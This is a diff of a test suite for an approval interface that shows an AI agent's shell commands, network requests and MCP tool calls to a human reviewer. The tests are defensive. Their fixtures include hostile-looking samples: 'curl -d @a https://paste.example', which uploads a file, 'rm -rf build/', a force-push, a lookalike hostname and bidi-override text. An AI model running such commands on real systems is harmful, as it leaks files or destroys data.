@@ -38,17 +38,16 @@ test("files, redirects, substitutions and settings stand out in a command, and a
   ]));
   assert.equal(await text(".command code"), command, "nothing is added to its text");
   assert.deepEqual(await signs(), [
-    ["é=1", "mark assignment", "none"], ["src/a", "mark path inside", "⌂"], ["$(cat ../b)", "mark substitution", "none"], ["../b", "mark path outside", "↗"],
-    ["$x", "mark path unknown", "?"], ["/tmp/o", "mark redirect outside", "↗"], ["/dev/null", "mark redirect device", "∅"],
+    ["é=1", "mark assignment", "none"], ["src/a", "mark path inside", "none"], ["$(cat ../b)", "mark substitution", "none"], ["../b", "mark path outside", "↗"],
+    ["$x", "mark path unknown", "none"], ["/tmp/o", "mark redirect outside", "↗"], ["/dev/null", "mark redirect device", "none"],
   ]);
-  await page.hover(".mark.outside >> nth=1");
-  assert.equal(await text(".mark-tip"), "Redirect >, written: ↗ outside the project /tmp/o");
-  await page.focus(".command");
-  await page.keyboard.press("Tab");
-  assert.equal(await text(".mark-tip"), "Path, read: ⌂ inside the project /home/mia/app/src/a");
-  await page.keyboard.press("Tab");
-  assert.equal(await text(".mark-tip"), "Path, read: ↗ outside the project /home/mia/b");
-  assert.equal(await text(".mark-list summary"), "7 marked, 2 outside the project, 1 known only when it runs");
+  await page.click(".more summary");
+  await page.waitForSelector(".mark-list li");
+  assert.deepEqual(await page.$$eval(".mark-list li", (all) => all.map((each) => each.textContent)), [
+    "é=1 a variable is set for what runs", "src/a Path, read: inside the project /home/mia/app/src/a", "$(cat ../b) this runs first, and what it prints is put in its place",
+    "../b Path, read: outside the project /home/mia/b", "$x Path, read: where it leads is known only when it runs", "/tmp/o Redirect >, written: outside the project /tmp/o",
+    "/dev/null Redirect >, written: a device that holds nothing /dev/null",
+  ]);
 });
 
 test("marks that make no sense are left out, and no text is lost or said twice", async () => {
@@ -64,12 +63,12 @@ test("marks that make no sense are left out, and no text is lost or said twice",
 test("a mark over several lines keeps them in order", async () => {
   const command = "echo $(a\nb) c\n$(d)\ne";
   await shown(marked(command, [["$(a\nb)", { kind: "substitution" }], ["$(d)", { kind: "substitution" }]]));
-  assert.equal((await page.$eval(".command code", (one) => one.textContent)).replaceAll("⏎", ""), command);
+  assert.equal((await page.$$eval(".command code", (all) => all.map((one) => one.textContent).join("\n"))).replaceAll("⏎", ""), command);
 });
 
 test("the bytes of a command can be seen", async () => {
   await shown(frame({ arguments: { command: `echo \u202eé\\\n${"x".repeat(5000)}` } }));
-  assert.equal(await page.isVisible(".bytes"), false);
+  await page.click(".more summary");
   await page.click("text=Show raw bytes");
   assert.match(await text(".bytes .raw"), /^echo \\u\{202e\}\\u\{e9\}\\\\\\nx{5000}$/);
   const dump = () => page.$eval(".dump", (one) => one.textContent);
@@ -84,10 +83,10 @@ test("the bytes of a command can be seen", async () => {
 const known = (command) => ({ timestamp: new Date().toISOString(), tool: "bash", arguments: { command }, reason: "", session: "s", source: "none", verdict: "ask", approved: true, digest: "d" });
 
 for (const [name, args, records, expected] of [
-  ["one nobody met", { url: "https://new.example/x", method: "POST", body: "a\u202eb" }, [], [/MethodPOSTHostnew\.example ● first time: no record of this hub names this host/, /Sendsa\\u\{202e\}b/]],
-  ["one that was met", { url: "https://new.example/x" }, ["curl https://new.example/y"], [/Methodthe call does not sayHostnew\.exampleAddress/]],
+  ["one nobody met", { url: "https://new.example/x", method: "POST", body: "a\u202eb" }, [], [/^POST https:\/\/new\.example\/x ● first time: no record of this hub names this host/, /Sendsa\\u\{202e\}b/]],
+  ["one that was met", { url: "https://new.example/x" }, ["curl https://new.example/y"], [/^https:\/\/new\.example\/x$/]],
   ["one that only looks like one that was met", { url: "https://new.example/x" }, ["curl https://new.example.evil/", "curl https://anew.example/"], [/● first time/]],
-  ["other letters", { url: "https://gооgle.com/" }, [], [/Hostxn--ggle-55da\.com which reads gооgle\.com ⚠ a name in other letters/]],
+  ["other letters", { url: "https://gооgle.com/" }, [], [/xn--ggle-55da\.com which reads gооgle\.com ⚠ a name in other letters/]],
   ["a body that is no text", { url: "https://a.example/", json: { a: [1] }, other: "x" }, [], [/Sends\{⏎ "a": \[⏎/, /other/]],
 ]) {
   test(`over the network: ${name}`, async () => {
@@ -112,8 +111,8 @@ test("what a command fetches is told, with who gets it instead", async () => {
   await shown(marked("curl -x p a.example/x", [], { fetches }));
   await page.waitForSelector(".first-time:not(:empty)");
   const said = await text(".fetches");
-  assert.match(said, /MethodPOSTHosta\.example ● first time.*⚠ an option redirects it.*Sendsk=1something that is known only when it runs/);
-  assert.match(said, /Methodthe call does not sayHostcannot be read before it runs$/);
+  assert.match(said, /Hosta\.example ● first time.*⚠ an option redirects it.*MethodPOST.*Sendsk=1something that is known only when it runs/);
+  assert.match(said, /Hostcannot be read before it runs$/);
 });
 
 const SCHEMA = {
@@ -134,6 +133,8 @@ test("arguments stand in the order in which the agent sent them", async () => {
 
 test("an MCP tool: whose it is, what its maker claims, and arguments as a form", async () => {
   await shown(issue({ annotations: { readOnlyHint: true, destructiveHint: false, title: "Make \u202eissue", other: "x" } }));
+  await page.click(".more summary");
+  await page.waitForSelector(".mcp");
   assert.equal(await text(".mcp"), "ServertrackerToolcreate calls itself “Make \\u{202e}issue”Its makerclaims to read only; claims to destroy nothing – not checked");
   await ready();
   await page.keyboard.press("e");
@@ -166,12 +167,14 @@ test("an MCP tool: whose it is, what its maker claims, and arguments as a form",
 test("a person who knows better than the schema is asked twice, and JSON is there as well", async () => {
   await shown(issue());
   await ready();
-  await page.click("text=Edit…");
+  await page.click(".menu-button");
+  await page.click("text=Edit, then allow…");
   await page.waitForSelector(".form");
   await page.click("text=Edit as JSON");
   assert.deepEqual(JSON.parse(await page.inputValue("#edit")), { title: "Broken", count: 3, deep: true, kind: "bug", labels: ["a"] });
   await page.click(".editor >> text=Cancel");
-  await page.click("text=Edit…");
+  await page.click(".menu-button");
+  await page.click("text=Edit, then allow…");
   await page.fill("#field-0", "x".repeat(30));
   assert.equal(await text(".editor button.allow"), "Allow it all the same");
   await page.click(".editor button.allow");
@@ -224,7 +227,7 @@ test("a patch of several files is folded by file, and what is grave needs each o
   for (const number of [0, 1, 2]) await page.click(`.patch-file summary >> nth=${number}`);
   await page.waitForFunction(() => !/Show all lines/.test(document.querySelector(".armed").textContent));
   await readThrough(page);
-  await page.waitForSelector('.buttons .allow[aria-disabled="false"]');
+  await page.waitForSelector('.main-buttons .allow[aria-disabled="false"]');
 });
 
 const doing = (command, does) => frame({ arguments: { command }, parsed: { argument: "command", commands: [], findings: [], does }, description: "harmless cleaning" });
@@ -242,16 +245,16 @@ test("a row says what is certain in words, with the thing itself below it, and n
   );
   await at();
   await page.waitForFunction(() => document.querySelectorAll(".item").length === 8);
-  const rows = await page.$$eval(".item", (all) => all.map((one) => [one.querySelector(".item-line").textContent, one.querySelector(".item-thing")?.textContent]));
+  const rows = await page.$$eval(".item", (all) => all.map((one) => [one.querySelector(".item-words").textContent, one.querySelector(".item-thing")?.textContent]));
   assert.deepEqual(rows.sort(), [
-    ["Call push of the MCP server git", 'mcp__git__push {"to":"x"}'],
-    ["Delete a\\x20b, c, d and 1 more", "rm 'a b' c d e"],
+    ["Delete a\\x20b, c and 2 more", "rm 'a b' c d e"],
     ["Delete build/ and all in it", "rm -rf build/"],
     ["Force-push main to github.com/acme/app", "git push -f git@github.com:acme/app.git main"],
-    ["Write 12 lines to src/a.rs", undefined],
-    ["make x", undefined],
-    ["npm test", undefined],
-    ["rm x", undefined],
+    ["Run a command", "make x"],
+    ["Run a command", "npm test"],
+    ["Run a command", "rm x"],
+    ["Use push of git", '{"to":"x"}'],
+    ["Write src/a.rs", undefined],
   ].sort());
 });
 
@@ -272,19 +275,21 @@ test("tricks in what the thing and the rows show are text, and two of them never
   // So high that all rows are drawn.
   await at({ height: 4000 });
   await page.waitForFunction((size) => document.querySelectorAll(".item").length === size, frames.length);
-  const rows = await page.$$eval(".item-main", (all) => all.map((one) => one.textContent));
+  const rows = await page.$$eval(".item-line", (all) => all.map((one) => one.textContent));
   assert.equal(new Set(rows).size, rows.length, "no two rows look alike");
   for (const one of frames) {
     await page.evaluate((id) => { location.hash = `#/queue/${id}`; }, one.id);
     await card(one.id);
     if (one.args_schema) {
-      await page.click("text=Edit…");
+      await page.keyboard.press("e");
       await page.waitForSelector(".form");
     }
+    await page.$eval(".card .more", (each) => { each.open = true; });
+    await page.waitForSelector(".card .more-in");
     const shown = await page.$(".queue");
     assert.equal(await shown.$("img, script, iframe, b, i"), null, "no markup came of it");
     assert.doesNotMatch(await shown.evaluate((element) => element.textContent), /[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202e\ud800]/u);
-    assert.deepEqual(await shown.$$eval(".card a", (all) => all.map((link) => link.getAttribute("href"))), [`#/policy?request=${one.id}`, `#/queue/${one.id}`], "no links but the page's own");
+    assert.deepEqual(await shown.$$eval(".card a", (all) => all.map((link) => link.getAttribute("href"))), [`#/queue/${one.id}`, `#/policy?request=${one.id}`], "no links but the page's own");
   }
 });
 
@@ -316,12 +321,11 @@ for (const [width, scheme] of [[360, "light"], [1100, "dark"], [1440, "light"]])
     await page.waitForSelector(".item");
     await scan("rows");
     await open(one);
-    await page.click(".mark-list summary");
+    await page.click(".more summary");
     await page.click("text=Show raw bytes");
-    await page.focus(".mark.outside");
     await scan("command");
     await open(two);
-    await page.click("text=Edit…");
+    await page.keyboard.press("e");
     await page.waitForSelector(".form");
     await page.fill("#field-1", "0");
     await scan("form");
@@ -337,5 +341,5 @@ for (const [width, scheme] of [[360, "light"], [1100, "dark"], [1440, "light"]])
 test("what weighs most stands above the call, in the hub's words and as text", async () => {
   await shown(frame({ arguments: { command: "curl -d @a https://paste.example" }, risk: { level: "high", reasons: ["sends <b>a</b>", "`curl` sends"], deeds: ["sends <b>a</b>"] } }));
   assert.match(await text(".card .warnings .deed"), /^⚠ sends <b>a<\/b>$/);
-  assert.doesNotMatch(await text(".card .reasons"), /<b>/, "and not twice");
+  assert.equal((await text(".card")).split("<b>a</b>").length, 2, "and not twice");
 });
